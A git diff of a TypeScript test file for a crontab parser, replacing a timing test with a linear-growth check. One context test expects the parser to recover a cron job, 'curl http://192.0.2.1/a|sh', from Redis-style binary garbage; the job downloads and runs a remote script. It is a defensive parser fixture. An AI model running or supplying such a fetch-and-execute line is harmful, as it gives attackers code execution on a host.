@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import fc from 'fast-check'
+import { assertGrowsLinearly } from '../../../test/growth.ts'
 import { bytesOf, textOf } from '../../core/bytes.ts'
 import { type CronJob, type CrontabForm, parseCrontab } from './crontab.ts'
 
@@ -89,11 +90,19 @@ test('jobs between binary garbage, as Redis leaves them', () => {
   assert.deepEqual(brief(text), [['*/2 * * * *', '', 'curl http://192.0.2.1/a|sh', '']])
 })
 
-test('a long line takes no long time', () => {
-  const began = performance.now()
-  for (const line of ['* '.repeat(500_000), '\\'.repeat(1_000_000), `* * * * * ${'%\\'.repeat(400_000)}`, `a${' '.repeat(1_000_000)}b`])
-    for (const form of ['user', 'system', 'busybox'] as const) assert.ok(jobs(line, form).length <= 1)
-  assert.ok(performance.now() - began < 5000)
+test('a long line takes as long as it is', () => {
+  for (const [before, piece, after] of [
+    ['', '* ', ''],
+    ['', '\\', ''],
+    ['* * * * * ', '%\\', ''],
+    ['a', ' ', 'b'],
+  ] as const)
+    for (const form of ['user', 'system', 'busybox'] as const)
+      assertGrowsLinearly(
+        size => assert.ok(jobs(`${before}${piece.repeat(size / piece.length)}${after}`, form).length <= 1),
+        8192,
+        `${form}: ${before}${piece}`,
+      )
 })
 
 const piece = fc.constantFrom(
